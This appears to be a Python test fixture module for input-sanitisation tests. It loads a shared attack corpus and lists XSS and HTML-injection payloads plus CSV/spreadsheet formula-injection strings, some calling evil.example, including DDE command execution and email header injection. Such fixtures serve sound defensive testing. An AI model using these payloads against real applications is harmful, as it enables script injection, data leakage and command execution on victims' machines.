"""Hostile text by the way it comes in: the shared corpus where it is there, and cases of the same kinds that are always there."""

from __future__ import annotations

import json
from pathlib import Path

CORPUS = Path(__file__).parents[3] / "shared" / "data" / "security" / "attacks.jsonl"
HERE = CORPUS.is_file()
REASON = "the shared attacks are not here"


def rows(channel, *kinds):
    """The corpus' payloads of a channel (and of these classes, where given), each as (id, class, payload)."""
    if not HERE:
        return []
    found = map(json.loads, CORPUS.read_text("utf-8").splitlines())
    return [
        (row["id"], row["class"], row["payload"]) for row in found if row["channel"] == channel and (not kinds or row["class"] in kinds)
    ]


def payloads(channel, *kinds):
    return [payload for _, _, payload in rows(channel, *kinds)]


def policy_rows():
    """Statements that a policy stops, of the channel that SQL comes in by."""
    return [(row, payload) for row, kind, payload in rows("sql", "policy")]


# Markup of every family that browsers run, in cells, names, titles.
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<form id=config><input name=baseUrl value=x></form>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "</td></tr></table><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    "--></script><!--<img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"' onmouseover=alert(1) x='",
    "`onmouseover=alert(1)`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "%{fullData.name}<extra></extra>",
    "<b>bold</b><br><sub>x</sub>",
    "<a href='http://evil.example'>look</a>",
    "hasOwnProperty",
    "toString",
    "__proto__",
    "x\r\nBcc: evil@example.com",
    "a\u202eb\u2066c",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]

# What a spreadsheet takes for a formula, or for the beginning of the next cell.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)",
    "﹦1+1", ";=1+1", '"=1+1', "'=1+1", '=1+1";=1+1', "|=1+1", "%0A=1+1", "\v=1+1", "\f=1+1", "\x00=1+1", "\u2060=1+1", "\u00ad=1+1", "\u202e=1+1", "−1+1", "＼=1+1",
    "=\u0000cmd", "\u180e=1+1", "\u061c=1+1", "\x85=1+1", "\u2028=1+1", "﹢1", "﹣1", "﹫x", "₌1", "⁺1", "‐1+1", "‑1+1",
]  # fmt: skip
